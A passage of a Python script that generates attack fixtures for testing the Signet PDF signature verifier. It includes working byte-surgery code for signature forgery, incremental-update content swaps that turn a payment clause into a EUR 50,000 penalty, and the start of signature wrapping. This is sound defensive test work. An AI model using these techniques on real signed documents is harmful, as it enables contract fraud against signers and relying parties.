#!/usr/bin/env python3
"""Generate PDF-attack fixtures (and their honest counterparts) for the Signet verifier.

    python3 tests/attacks/make_attacks.py --signet PATH_TO_SIGNET --out DIR [--verify]

Builds honest signed PDFs with the `signet` binary (its own CA, in-process time-stamps, no
network), derives attack variants from them by byte surgery and hand-written incremental
updates, and writes into DIR:

    DIR/*.pdf            every fixture (nothing else at the top level but manifest.json)
    DIR/manifest.json    [{"file", "attack", "honest", "expect", "signed_revision_intact",
                           "what"}, ...] in a fixed order
    DIR/ca/              the CA; DIR/ca/root.pem is the trust anchor for every signature
    DIR/work/            intermediate files (unsigned inputs, keys, the seal image)

DIR must not exist or be empty. Python 3 standard library only. Deterministic apart from
keys, signature values and time-stamps. Exit status 0 on success, 1 with a message on any
failure. With --verify, every honest fixture is also checked with `signet verify` (exit 0).
See README.md beside this file for the catalogue and the expected verdicts.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import subprocess
import sys
import traceback

# ---------------------------------------------------------------------------------------
# Errors
# ---------------------------------------------------------------------------------------


class Fail(Exception):
    """Any failure: printed as one clear message, exit status 1."""


def need(cond: bool, msg: str) -> None:
    if not cond:
        raise Fail(msg)


# ---------------------------------------------------------------------------------------
# PDF objects
# ---------------------------------------------------------------------------------------


class Name(bytes):
    """A PDF name, without the slash."""


class Ref(tuple):
    """An indirect reference (num, gen)."""

    def __new__(cls, num: int, gen: int = 0):
        return super().__new__(cls, (num, gen))

    @property
    def num(self) -> int:
        return self[0]


class Real(bytes):
    """A real number, kept as written."""


class PdfStr:
    """A string object: its decoded value, and whether it was written as hex."""

    def __init__(self, value: bytes, hexa: bool = False):
        self.value = value
        self.hexa = hexa

    def __eq__(self, other):
        return isinstance(other, PdfStr) and other.value == self.value

    def __hash__(self):
        return hash(self.value)

    def __repr__(self):
        return f"PdfStr({self.value!r})"


class Stream:
    def __init__(self, d: dict, data: bytes):
        self.dict = d
        self.data = data


WS = b" \t\r\n\x0c\x00"
DELIM = b"()<>[]{}/%"


def is_regular(c: int) -> bool:
    return c not in WS and c not in DELIM


class Parser:
    """A small, strict-enough parser for objects in files this script controls."""

    def __init__(self, data: bytes, pos: int = 0):
        self.d = data
        self.pos = pos

    def skip(self) -> None:
        d, p, n = self.d, self.pos, len(self.d)
        while p < n:
            c = d[p]
            if c in WS:
                p += 1
            elif c == 0x25:  # comment
                while p < n and d[p] not in b"\r\n":
                    p += 1
            else:
                break
        self.pos = p

    def regular(self) -> bytes:
        self.skip()
        start = self.pos
        while self.pos < len(self.d) and is_regular(self.d[self.pos]):
            self.pos += 1
        return self.d[start : self.pos]

    def expect(self, kw: bytes) -> None:
        tok = self.regular()
        need(tok == kw, f"expected {kw!r} at offset {self.pos - len(tok)}, found {tok[:20]!r}")

    def parse(self):
        self.skip()
        d = self.d
        need(self.pos < len(d), "unexpected end of file while parsing an object")
        c = d[self.pos]
        if c == 0x2F:  # /
            self.pos += 1
            start = self.pos
            while self.pos < len(d) and is_regular(d[self.pos]):
                self.pos += 1
            raw = d[start : self.pos]
            return Name(re.sub(rb"#([0-9A-Fa-f]{2})", lambda m: bytes([int(m.group(1), 16)]), raw))
        if c == 0x28:  # (
            return self.literal()
        if c == 0x3C:  # <
            if d[self.pos + 1 : self.pos + 2] == b"<":
                self.pos += 2
                out = {}
                while True:
                    self.skip()
                    if d[self.pos : self.pos + 2] == b">>":
                        self.pos += 2
                        return out
                    key = self.parse()
                    need(isinstance(key, Name), f"dictionary key is not a name at {self.pos}")
                    out[key] = self.parse()
            end = d.index(b">", self.pos)
            hexa = re.sub(rb"\s", b"", d[self.pos + 1 : end])
            self.pos = end + 1
            if len(hexa) % 2:
                hexa += b"0"
            return PdfStr(bytes.fromhex(hexa.decode("ascii")), hexa=True)
        if c == 0x5B:  # [
            self.pos += 1
            out = []
            while True:
                self.skip()
                if d[self.pos : self.pos + 1] == b"]":
                    self.pos += 1
                    return out
                out.append(self.parse())
        tok = self.regular()
        need(tok != b"", f"unexpected byte {d[self.pos:self.pos + 1]!r} at offset {self.pos}")
        if tok == b"true":
            return True
        if tok == b"false":
            return False
        if tok == b"null":
            return None
        if re.fullmatch(rb"[+-]?\d+", tok):
            # Maybe "num gen R".
            save = self.pos
            gen = self.regular()
            if re.fullmatch(rb"\d+", gen):
                r = self.regular()
                if r == b"R":
                    return Ref(int(tok), int(gen))
            self.pos = save
            return int(tok)
        if re.fullmatch(rb"[+-]?(\d+\.\d*|\.\d+)", tok):
            return Real(tok)
        raise Fail(f"unexpected token {tok[:20]!r} at offset {self.pos - len(tok)}")

    def literal(self) -> PdfStr:
        d = self.d
        self.pos += 1
        depth = 1
        out = bytearray()
        esc = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}
        while True:
            need(self.pos < len(d), "unterminated string")
            ch = d[self.pos : self.pos + 1]
            self.pos += 1
            if ch == b"\\":
                nx = d[self.pos : self.pos + 1]
                self.pos += 1
                if nx in esc:
                    out += esc[nx]
                elif nx in b"01234567" and nx:
                    digits = nx
                    while len(digits) < 3 and d[self.pos : self.pos + 1] in b"01234567" and d[self.pos : self.pos + 1]:
                        digits += d[self.pos : self.pos + 1]
                        self.pos += 1
                    out.append(int(digits, 8) & 0xFF)
                elif nx == b"\r":
                    if d[self.pos : self.pos + 1] == b"\n":
                        self.pos += 1
                elif nx == b"\n":
                    pass
                else:
                    out += nx
            elif ch == b"(":
                depth += 1
                out += ch
            elif ch == b")":
                depth -= 1
                if depth == 0:
                    return PdfStr(bytes(out))
                out += ch
            else:
                out += ch


def ser(o) -> bytes:
    """Serialize a Python representation of a PDF object."""
    if isinstance(o, Name):
        return b"/" + b"".join(
            bytes([c]) if is_regular(c) and c != 0x23 and 0x21 <= c <= 0x7E else b"#%02X" % c for c in o
        )
    if isinstance(o, Ref):
        return b"%d %d R" % (o[0], o[1])
    if isinstance(o, bool):
        return b"true" if o else b"false"
    if o is None:
        return b"null"
    if isinstance(o, int):
        return b"%d" % o
    if isinstance(o, Real):
        return bytes(o)
    if isinstance(o, float):
        return (b"%.4f" % o).rstrip(b"0").rstrip(b".")
    if isinstance(o, PdfStr):
        if o.hexa:
            return b"<" + o.value.hex().upper().encode() + b">"
        return lit(o.value)
    if isinstance(o, list):
        return b"[" + b" ".join(ser(x) for x in o) + b"]"
    if isinstance(o, dict):
        return b"<<" + b"".join(ser(Name(k)) + b" " + ser(v) for k, v in o.items()) + b">>"
    raise Fail(f"cannot serialize {type(o).__name__}")


def lit(s) -> bytes:
    """A literal string."""
    if isinstance(s, str):
        s = s.encode("latin-1")
    s = s.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    s = s.replace(b"\r", b"\\r").replace(b"\n", b"\\n")
    return b"(" + s + b")"


def stream_obj(d: dict, data: bytes) -> bytes:
    d = dict(d)
    d[Name(b"Length")] = len(data)
    return ser(d) + b"\nstream\n" + data + b"\nendstream"


N = Name  # short alias for dictionary keys and name values

# ---------------------------------------------------------------------------------------
# Reading a file: classic cross-reference tables and their /Prev chain
# ---------------------------------------------------------------------------------------


class Pdf:
    def __init__(self, data: bytes, what: str = "PDF"):
        self.data = data
        self.what = what
        i = data.rfind(b"startxref")
        need(i >= 0, f"{what}: no startxref")
        m = re.match(rb"startxref\s+(\d+)", data[i:])
        need(m is not None, f"{what}: malformed startxref")
        self.startxref = int(m.group(1))
        self.sections = []  # newest first: (offset, {num: (offset, gen)}, trailer)
        self.xref = {}
        off, seen = self.startxref, set()
        while off is not None:
            need(off not in seen, f"{what}: /Prev loop at {off}")
            seen.add(off)
            entries, trailer = self._read_xref(off)
            self.sections.append((off, entries, trailer))
            for num, entry in entries.items():
                self.xref.setdefault(num, entry)
            off = trailer.get(N(b"Prev"))
        self.trailer = self.sections[0][2]
        self.size = self.trailer[N(b"Size")]

    def _read_xref(self, off: int):
        d = self.data
        need(0 <= off < len(d), f"{self.what}: xref offset {off} outside the file")
        need(
            d.startswith(b"xref", off),
            f"{self.what}: no classic xref table at offset {off} "
            f"(xref streams are not supported by this generator; found {d[off:off + 16]!r})",
        )
        p = off + 4
        entries = {}
        while True:
            m = re.compile(rb"[ \t\r\n]*").match(d, p)
            p = m.end()
            if d.startswith(b"trailer", p):
                break
            m = re.compile(rb"(\d+)[ ]+(\d+)[ ]*(?:\r\n|\n|\r)").match(d, p)
            need(m is not None, f"{self.what}: bad xref subsection header at {p}")
            start, count = int(m.group(1)), int(m.group(2))
            p = m.end()
            for k in range(count):
                e = d[p : p + 20]
                em = re.fullmatch(rb"(\d{10}) (\d{5}) ([nf])(?: \r| \n|\r\n)", e)
                need(em is not None, f"{self.what}: xref entry at {p} is not 20 bytes: {e!r}")
                if em.group(3) == b"n":
                    entries[start + k] = (int(em.group(1)), int(em.group(2)))
                p += 20
        parser = Parser(d, p + len(b"trailer"))
        trailer = parser.parse()
        need(isinstance(trailer, dict), f"{self.what}: trailer at {p} is not a dictionary")
        return entries, trailer

    def obj_at(self, num: int, off: int, gen: int = 0):
        """Parse `num gen obj ... endobj` at off; returns (object, end offset)."""
        d = self.data
        m = re.compile(rb"(\d+)\s+(\d+)\s+obj").match(d, off)
        need(
            m is not None and int(m.group(1)) == num and int(m.group(2)) == gen,
            f"{self.what}: xref says object {num} {gen} is at {off}, found {d[off:off + 20]!r}",
        )
        p = Parser(d, m.end())
        o = p.parse()
        save = p.pos
        if isinstance(o, dict) and p.regular() == b"stream":
            q = p.pos
            if d.startswith(b"\r\n", q):
                q += 2
            elif d.startswith(b"\n", q):
                q += 1
            length = self.resolve(o[N(b"Length")])
            data = d[q : q + length]
            p.pos = q + length
            p.expect(b"endstream")
            o = Stream(o, data)
        else:
            p.pos = save
        p.expect(b"endobj")
        return o, p.pos

    def obj(self, num: int):
        need(num in self.xref, f"{self.what}: object {num} is not in the cross-reference")
        off, gen = self.xref[num]
        return self.obj_at(num, off, gen)[0]

    def span(self, num: int):
        """(start, end) of object num's bytes, end just past `endobj`."""
        off, gen = self.xref[num]
        return off, self.obj_at(num, off, gen)[1]

    def resolve(self, o):
        seen = 0
        while isinstance(o, Ref):
            o = self.obj(o.num)
            seen += 1
            need(seen < 16, f"{self.what}: reference chain too long")
        return o

    def catalog(self) -> dict:
        return self.resolve(self.trailer[N(b"Root")])

    def pages(self) -> list:
        out = []

        def walk(ref, depth):
            need(depth < 32, f"{self.what}: page tree too deep")
            node = self.resolve(ref)
            if node.get(N(b"Type")) == N(b"Pages"):
                for kid in node[N(b"Kids")]:
                    walk(kid, depth + 1)
            else:
                out.append(ref)

        walk(self.catalog()[N(b"Pages")], 0)
        return out

    def fields(self) -> list:
        """All terminal fields (Ref) of the AcroForm, with their full names."""
        form = self.resolve(self.catalog().get(N(b"AcroForm")))
        out = []

        def walk(ref, prefix, depth):
            need(depth < 32, f"{self.what}: field tree too deep")
            f = self.resolve(ref)
            t = f.get(N(b"T"))
            name = prefix
            if t is not None:
                part = t.value.decode("latin-1")
                name = f"{prefix}.{part}" if prefix else part
            kids = [k for k in f.get(N(b"Kids"), []) if N(b"T") in self.resolve(k)]
            if kids:
                for k in kids:
                    walk(k, name, depth + 1)
            else:
                out.append((name, ref))

        if form:
            for ref in self.resolve(form.get(N(b"Fields"), [])):
                walk(ref, "", 0)
        return out

    def field(self, name: str) -> Ref:
        for n, ref in self.fields():
            if n == name:
                return ref
        raise Fail(f"{self.what}: no field named {name!r} (fields: {[n for n, _ in self.fields()]})")

    def check(self) -> None:
        """Structural self-check: every in-use entry of every section points at its object,
        every object parses, /Size covers every number, /Prev points at a section."""
        for off, entries, trailer in self.sections:
            size = trailer.get(N(b"Size"))
            need(isinstance(size, int), f"{self.what}: trailer at {off} has no /Size")
            for num, (o, gen) in entries.items():
                need(num < size, f"{self.what}: object {num} >= /Size {size} in section at {off}")
                self.obj_at(num, o, gen)
        self.catalog()
        self.pages()


# ---------------------------------------------------------------------------------------
# Writing: a whole classic-xref file, and incremental updates
# ---------------------------------------------------------------------------------------


def xref_table(offsets: dict, with_free_head: bool) -> bytes:
    """A classic xref table: one subsection per run of consecutive numbers; entries are
    exactly 20 bytes ("oooooooooo ggggg n\\r\\n")."""
    out = bytearray(b"xref\n")
    nums = sorted(offsets)
    if with_free_head:
        need(nums == list(range(1, len(nums) + 1)), "a full file needs objects 1..n")
        out += b"0 %d\n0000000000 65535 f\r\n" % (len(nums) + 1)
        for n in nums:
            out += b"%010d 00000 n\r\n" % offsets[n]
        return bytes(out)
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        out += b"%d %d\n" % (nums[i], j - i + 1)
        for n in nums[i : j + 1]:
            out += b"%010d 00000 n\r\n" % offsets[n]
        i = j + 1
    return bytes(out)


def write_pdf(objects: dict, info: int) -> bytes:
    """A complete PDF 1.7 file with a classic xref table; objects {num: body}, root is 1."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    xref = len(out)
    out += xref_table(offsets, with_free_head=True)
    fid = hashlib.md5(bytes(out)).hexdigest().upper().encode()
    trailer = b"<< /Size %d /Root 1 0 R /Info %d 0 R /ID [<%s> <%s>] >>" % (len(objects) + 1, info, fid, fid)
    out += b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


class Update:
    """One incremental update: objects (new or redefined), a classic xref section and a
    trailer with /Prev = the previous startxref, appended to the file's exact bytes."""

    def __init__(self, pdf: Pdf):
        self.pdf = pdf
        self.objs = {}
        self.next = pdf.size

    def new(self) -> int:
        n = self.next
        self.next += 1
        return n

    def put(self, num: int, body: bytes) -> None:
        self.objs[num] = body

    def object_bytes(self) -> bytes:
        return b"".join(b"%d 0 obj\n" % n + body + b"\nendobj\n" for n, body in self.objs.items())

    def finish(self) -> bytes:
        pdf = self.pdf
        out = bytearray(pdf.data)
        if not out.endswith(b"\n"):
            out += b"\n"
        offsets = {}
        for n, body in self.objs.items():
            offsets[n] = len(out)
            out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
        xref = len(out)
        out += xref_table(offsets, with_free_head=False)
        trailer = {N(b"Size"): max([pdf.size, self.next] + [n + 1 for n in self.objs])}
        for key in (b"Root", b"Info", b"ID"):
            if N(key) in pdf.trailer:
                trailer[N(key)] = pdf.trailer[N(key)]
        trailer[N(b"Prev")] = pdf.startxref
        out += b"trailer\n" + ser(trailer) + b"\nstartxref\n%d\n%%%%EOF\n" % xref
        result = bytes(out)
        Pdf(result, "generated update").check()
        return result


def add_annotation(up: Update, page_ref: Ref, annot_ref: Ref) -> None:
    """Append annot_ref to the page's /Annots: rewrite the page dict (direct array), or the
    array object (indirect array)."""
    pdf = up.pdf
    page = dict(pdf.resolve(page_ref))
    annots = page.get(N(b"Annots"))
    if isinstance(annots, Ref):
        arr = list(pdf.resolve(annots)) + [annot_ref]
        up.put(annots.num, ser(arr))
    else:
        page[N(b"Annots")] = list(annots or []) + [annot_ref]
        up.put(page_ref.num, ser(page))


def add_field(up: Update, field_ref: Ref) -> None:
    """Append field_ref to the AcroForm's /Fields (rewriting the catalog, the AcroForm or
    the /Fields array, whichever holds it directly)."""
    pdf = up.pdf
    root_ref = pdf.trailer[N(b"Root")]
    cat = dict(pdf.catalog())
    form_ref = cat.get(N(b"AcroForm"))
    need(form_ref is not None, "document has no AcroForm")
    form = dict(pdf.resolve(form_ref))
    fields = form.get(N(b"Fields"))
    if isinstance(fields, Ref):
        up.put(fields.num, ser(list(pdf.resolve(fields)) + [field_ref]))
        return
    form[N(b"Fields")] = list(fields or []) + [field_ref]
    if isinstance(form_ref, Ref):
        up.put(form_ref.num, ser(form))
    else:
        cat[N(b"AcroForm")] = form
        up.put(root_ref.num, ser(cat))


# ---------------------------------------------------------------------------------------
# Signatures in a file: where /ByteRange and /Contents are
# ---------------------------------------------------------------------------------------


class SigLayout:
    def __init__(self, pdf: Pdf, field: str):
        self.pdf = pdf
        fdict = pdf.resolve(pdf.field(field))
        v = fdict.get(N(b"V"))
        need(isinstance(v, Ref), f"field {field!r} has no signature value reference")
        self.sig_num = v.num
        start, end = pdf.span(v.num)
        self.obj_start, self.obj_end = start, end
        body = pdf.data[start:end]
        m = re.search(rb"/ByteRange\s*\[([^\]]*)\]", body)
        need(m is not None, f"signature {v.num}: no /ByteRange")
        self.br_start, self.br_end = start + m.start(), start + m.end()
        self.br_value_start = start + m.start(0) + body[m.start(0) :].index(b"[")
        self.byte_range = [int(x) for x in m.group(1).split()]
        m = re.search(rb"/Contents\s*(<[0-9A-Fa-f\s]*>)", body)
        need(m is not None, f"signature {v.num}: no /Contents hex string")
        self.ct_start, self.ct_end = start + m.start(), start + m.end()
        self.hex_start = start + m.start(1)  # the '<'
        a, b, c, d = self.byte_range
        need(
            a == 0 and b == self.hex_start and c == self.ct_end,
            f"signature {v.num}: gap {b}..{c} is not /Contents {self.hex_start}..{self.ct_end}",
        )
        raw = bytes.fromhex(re.sub(rb"\s", b"", pdf.data[b + 1 : c - 1]).decode("ascii"))
        self.cms = raw[: der_length(raw)]
        need(not any(raw[len(self.cms) :]), "non-zero bytes after the CMS in /Contents")


def der_length(data: bytes) -> int:
    need(len(data) > 2 and data[0] == 0x30, "/Contents does not start with a DER SEQUENCE")
    first = data[1]
    if first < 0x80:
        return 2 + first
    n = first & 0x7F
    return 2 + n + int.from_bytes(data[2 : 2 + n], "big")


def fixed_byte_range(vals, width: int) -> bytes:
    """`[a b c d]` with 10-digit numbers, as signet writes it, checked to keep the width."""
    text = b"[" + b" ".join(b"%010d" % v for v in vals) + b"]"
    need(len(text) == width, f"new /ByteRange {text!r} does not keep the width {width}")
    return text


def splice(data: bytes, start: int, end: int, new: bytes) -> bytes:
    need(len(new) <= end - start, f"replacement of {len(new)} bytes does not fit in {end - start}")
    return data[:start] + new + b" " * (end - start - len(new)) + data[end:]


# ---------------------------------------------------------------------------------------
# Page content
# ---------------------------------------------------------------------------------------

# The sample contract's clauses (signet sample-pdf), page 1 baselines 716, 702, ...
SAMPLE_LINES = [
    "1. The Parties agree to the terms and conditions set out in this Agreement.",
    "2. The Supplier shall deliver the Services described in Schedule A on time.",
    "3. The Customer shall pay each invoice within thirty (30) days of receipt.",
    "4. Each Party shall keep the other Party's confidential information secret.",
    "5. Either Party may terminate this Agreement with ninety (90) days notice.",
    "6. This Agreement is governed by the laws of the place of its signature.",
    "7. Any dispute shall first be settled amicably through good faith talks.",
    "8. Amendments are valid only when made in writing and signed by both Parties.",
]
SHADOW_LINES = [
    "1. The Supplier shall deliver the Services described in Schedule A.",
    "2. The Customer shall pay a monthly fee of EUR 950.00 for the Services.",
    "3. Each invoice is payable within thirty (30) days of receipt.",
    "4. Either Party may terminate this Agreement with ninety (90) days notice.",
    "5. Each Party shall keep the other Party's confidential information secret.",
    "6. This Agreement is governed by the laws of the place of its signature.",
]
EVIL_LINES = {
    1: "2. The Customer shall pay a monthly fee of EUR 95,000.00 for the Services.",
    3: "4. The Supplier may terminate this Agreement at any time without notice.",
}


def line_y(i: int) -> int:
    """Baseline of body line i (0-based) in `contract_content`: T* before each line."""
    return 730 - 14 * (i + 1)


def contract_content(title: str, lines) -> bytes:
    out = b"BT /F1 20 Tf 72 770 Td " + lit(title) + b" Tj ET\nBT /F1 11 Tf 14 TL 72 730 Td\n"
    for line in lines:
        out += lit(line) + b" '\n"
    return out + b"ET\nBT /F1 9 Tf 280 40 Td (Page 1 of 1) Tj ET\n"


def white_box_text(x: int, y: int, w: int, h: int, lines, first: int, text_x: int) -> bytes:
    """Content that paints an opaque white box (x, y, w, h) and black 11-point text lines
    from baseline `first` down, 14 points apart, starting at text_x."""
    out = b"q 1 g %d %d %d %d re f Q\nBT 0 g /F1 11 Tf 14 TL %d %d Td\n" % (x, y, w, h, text_x, first + 14)
    for line in lines:
        out += lit(line) + b" '\n"
    return out + b"ET\n"


# ---------------------------------------------------------------------------------------
# The signet binary
# ---------------------------------------------------------------------------------------


class Signet:
    def __init__(self, exe: str, out: str):
        self.exe = exe
        self.work = os.path.join(out, "work")
        self.ca = os.path.join(out, "ca")
        self.seal = os.path.join(self.work, "seal.png")
        self.p12 = {}

    def run(self, args, what: str) -> str:
        try:
            o = subprocess.run([self.exe] + [str(a) for a in args], capture_output=True, timeout=300)
        except (OSError, subprocess.TimeoutExpired) as e:
            raise Fail(f"{what}: cannot run signet: {e}") from e
        if o.returncode != 0:
            raise Fail(
                f"{what}: `signet {' '.join(str(a) for a in args)}` exited {o.returncode}:\n"
                f"{o.stderr.decode('utf-8', 'replace')}{o.stdout.decode('utf-8', 'replace')}"
            )
        return o.stdout.decode("utf-8", "replace")

    def setup(self) -> None:
        os.makedirs(self.work)
        self.run(["ca", "init", "--dir", self.ca], "ca init")
        pw = os.path.join(self.work, "signer2.pw")
        with open(pw, "w", encoding="utf-8") as f:
            f.write("fixture password\n")
        for key, name, pwf in [("signer1", "Alice Approver", None), ("signer2", "Bob Countersigner", pw)]:
            path = os.path.join(self.work, f"{key}.p12")
            args = ["ca", "issue", "--dir", self.ca, "--name", name, "--out", path]
            if pwf:
                args += ["--password-file", pwf]
            self.run(args, f"ca issue {key}")
            self.p12[key] = (path, pwf)
        self.run(["sample-seal", "-o", self.seal], "sample-seal")

    def sample(self, path: str) -> None:
        self.run(["sample-pdf", "-o", path, "--pages", "2", "--title", "Service Agreement"], "sample-pdf")

    def sign(self, src, dst, signer="signer1", level="B-T", field=None, rect=None, page=1,
             image=True, certify=None, add_fields=()) -> None:
        p12, pwf = self.p12[signer]
        args = ["sign", src, "-o", dst, "--p12", p12, "--level", level, "--tsa-dir", self.ca]
        if pwf:
            args += ["--password-file", pwf]
        if field:
            args += ["--field", field]
        if rect:
            args += ["--page", page, "--rect", rect]
        if image and (rect or field):
            args += ["--image", self.seal]
        if certify:
            args += ["--certify", certify]
        for f in add_fields:
            args += ["--add-field", f]
        self.run(args, f"sign {os.path.basename(dst)}")

    def verify(self, path: str) -> tuple:
        o = subprocess.run(
            [self.exe, "verify", "--trust", os.path.join(self.ca, "root.pem"), path], capture_output=True
        )
        return o.returncode, o.stdout.decode("utf-8", "replace") + o.stderr.decode("utf-8", "replace")


# ---------------------------------------------------------------------------------------
# The fixtures
# ---------------------------------------------------------------------------------------


class Fixtures:
    def __init__(self, signet: Signet, out: str):
        self.s = signet
        self.out = out
        self.manifest = []

    def path(self, name: str) -> str:
        return os.path.join(self.out, name)

    def read(self, name: str) -> bytes:
        with open(self.path(name), "rb") as f:
            return f.read()

    def emit(self, name, attack, expect, intact, what, data=None) -> None:
        """Record a fixture (writing data if given) after a structural self-check."""
        if data is not None:
            with open(self.path(name), "wb") as f:
                f.write(data)
        data = self.read(name)
        Pdf(data, name).check()
        need(expect in ("pass", "fail"), "bad expectation")
        self.manifest.append(
            {
                "file": name,
                "attack": attack,
                "honest": expect == "pass",
                "expect": expect,
                "signed_revision_intact": intact,
                "what": what,
            }
        )

    def work(self, name: str) -> str:
        return os.path.join(self.s.work, name)

    # -- honest bases ----------------------------------------------------------------

    def honest(self) -> None:
        s = self.s
        contract = self.work("contract.pdf")
        s.sample(contract)
        self.contract = contract

        s.sign(contract, self.path("honest-approval.pdf"), field="Signer1", rect="60,60,260,150")
        self.emit("honest-approval.pdf", "none", "pass", True,
                  "sample contract with one approval signature (B-T, visible seal at the bottom of page 1)")

        s.sign(self.path("honest-approval.pdf"), self.path("honest-two-signers.pdf"), signer="signer2",
               field="Signer2", rect="320,60,540,150")
        self.emit("honest-two-signers.pdf", "none", "pass", True,
                  "honest-approval countersigned by a second signer: a new visible signature field "
                  "beside the first (approval signatures allow later signatures)")

        s.sign(contract, self.path("honest-certified-p2.pdf"), field="Certifier", rect="60,60,260,150",
               certify="2", add_fields=["Signer2,1,320,60,540,150"])
        self.emit("honest-certified-p2.pdf", "none", "pass", True,
                  "certification signature, DocMDP P=2, with an empty signature field Signer2 "
                  "pre-created for a later signer")

        s.sign(self.path("honest-certified-p2.pdf"), self.path("honest-certified-p2-signed.pdf"),
               signer="signer2", field="Signer2")
        self.emit("honest-certified-p2-signed.pdf", "none", "pass", True,
                  "honest-certified-p2 with the pre-created field Signer2 signed by the second "
                  "signer (permitted under P=2; counterpart of the sneaky signature)")

        s.sign(contract, self.path("honest-certified-p3.pdf"), field="Certifier", rect="60,60,260,150",
               certify="3")
        self.emit("honest-certified-p3.pdf", "none", "pass", True,
                  "certification signature, DocMDP P=3 (form filling, signing and annotations allowed)")

        # A sticky note (/Text) on page 1: permitted under P=3.
        pdf = Pdf(self.read("honest-certified-p3.pdf"))
        page = pdf.pages()[0]
        up = Update(pdf)
        note = up.new()
        up.put(note, ser({
            N(b"Type"): N(b"Annot"), N(b"Subtype"): N(b"Text"),
            N(b"Rect"): [520, 790, 540, 810], N(b"Contents"): PdfStr(b"Please check clause 3 before countersigning."),
            N(b"T"): PdfStr(b"Reviewer"), N(b"Name"): N(b"Comment"), N(b"Open"): False,
            N(b"F"): 28, N(b"P"): page,
        }))
        add_annotation(up, page, Ref(note))
        self.emit("honest-p3-sticky-note.pdf", "none", "pass", True,
                  "honest-certified-p3 plus an incremental update adding a /Text annotation (sticky-note "
                  "icon, no /AP) to page 1 (permitted under P=3; counterpart of the evil annotation)",
                  up.finish())

        s.sign(contract, self.path("honest-approval-lta.pdf"), level="B-LTA", field="Signer1",
               rect="60,60,260,150")
        self.emit("honest-approval-lta.pdf", "none", "pass", True,
                  "sample contract signed at B-LTA: approval signature, then a DSS update and a "
                  "document time-stamp update after it (permitted changes)")

    # -- Universal Signature Forgery -------------------------------------------------

    def usf(self) -> None:
        base = self.read("honest-approval.pdf")
        pdf = Pdf(base)
        sig = SigLayout(pdf, "Signer1")
        hex_len = sig.ct_end - sig.hex_start - 2
        br_width = sig.br_end - sig.br_value_start
        variants = [
            ("usf-contents-missing.pdf", sig.ct_start, sig.ct_end, b"",
             "/Contents key and value blanked out with spaces (no signature value at all)"),
            ("usf-contents-empty.pdf", sig.ct_start, sig.ct_end, b"/Contents <>",
             "/Contents <> (empty signature value), padded with spaces"),
            ("usf-contents-garbage.pdf", sig.hex_start, sig.ct_end, b"<" + b"41" * (hex_len // 2) + b">",
             "/Contents replaced by same-length hex of 0x41 bytes (not DER)"),
            ("usf-byterange-missing.pdf", sig.br_start, sig.br_end, b"",
             "/ByteRange key and value blanked out with spaces"),
            ("usf-byterange-empty.pdf", sig.br_start, sig.br_end, b"/ByteRange []",
             "/ByteRange [] (empty), padded with spaces"),
            ("usf-byterange-zero.pdf", sig.br_start, sig.br_end, b"/ByteRange [0 0 0 0]",
             "/ByteRange [0 0 0 0], padded with spaces"),
            ("usf-byterange-garbage.pdf", sig.br_start, sig.br_end, b"/ByteRange [/a /b]",
             "/ByteRange [/a /b] (names, not integers), padded with spaces"),
        ]
        need(br_width > 20, "unexpectedly short /ByteRange")
        for name, start, end, new, what in variants:
            data = splice(base, start, end, new)
            need(len(data) == len(base), "USF variant changed the file length")
            self.emit(name, "USF", "fail", False,
                      f"Universal Signature Forgery on honest-approval: {what}; file length and every "
                      f"offset unchanged", data)

    # -- Incremental Saving Attack ---------------------------------------------------

    def evil_content(self, pdf: Pdf, page: Ref) -> tuple:
        """(content object number, the page's content with the payment term changed)."""
        contents = pdf.resolve(page)[N(b"Contents")]
        if isinstance(contents, list):
            contents = contents[0]
        need(isinstance(contents, Ref), "page /Contents is not a reference")
        stream = pdf.resolve(contents)
        need(N(b"Filter") not in stream.dict, "sample content stream is unexpectedly filtered")
        old = b"(3. The Customer shall pay each invoice within thirty \\(30\\) days of receipt.)"
        new = b"(3. The Customer shall pay a penalty of EUR 50,000.00 with every invoice.)"
        need(old in stream.data, "sample content does not hold clause 3 as expected")
        return contents.num, stream.data.replace(old, new)

    def isa(self) -> None:
        base = self.read("honest-approval.pdf")
        pdf = Pdf(base)
        page = pdf.pages()[0]
        num, evil = self.evil_content(pdf, page)
        evil_obj = stream_obj({}, evil)

        up = Update(pdf)
        up.put(num, evil_obj)
        self.emit("isa-redefine-content.pdf", "ISA", "fail", True,
                  "Incremental Saving Attack on honest-approval: an appended update (objects, xref, "
                  "trailer /Prev, startxref, %EOF) redefines page 1's existing content stream object "
                  "with clause 3 changed to a EUR 50,000 penalty", up.finish())

        up = Update(pdf)
        new = up.new()
        up.put(new, evil_obj)
        pd = dict(pdf.resolve(page))
        pd[N(b"Contents")] = Ref(new)
        up.put(page.num, ser(pd))
        self.emit("isa-new-page-contents.pdf", "ISA", "fail", True,
                  "Incremental Saving Attack on honest-approval: an appended update adds a new "
                  "content stream (clause 3 changed) and rewrites page 1's dict to point /Contents "
                  "at it", up.finish())

        tail = b"%d 0 obj\n" % num + evil_obj + b"\nendobj\n"
        self.emit("isa-no-xref.pdf", "ISA", "fail", True,
                  "Incremental Saving Attack on honest-approval without xref: a redefinition of page "
                  "1's content object (clause 3 changed) appended after the last %EOF, with no xref "
                  "section, trailer or startxref (a viewer that reconstructs the xref shows it)",
                  base + tail)

    # -- Signature Wrapping ------------------------------------------------------------

    def swa(self) -> None:
        base = self.read("honest-approval.pdf")
        pdf = Pdf(base)
        sig = SigLayout(pdf, "Signer1")
        a, b, c, d = sig.byte_range
        need(c + d == len(base), "honest-approval's signature does not cover the whole file")
        br_width = sig.br_end - sig.br_value_start
        page = pdf.pages()[0]
        num, evil = self.evil_content(pdf, page)
        payload = b"%d 0 obj\n" % num + stream_obj({}, evil) + b"\nendobj\n"
        cms_hex = b"<" + sig.cms.hex().upper().encode() + b">"

        # (1) /ByteRange untouched, digest and CMS still valid: /Contents is cut down to the
        # bare CMS, the dictionary closed, and the freed padding inside the gap carries a
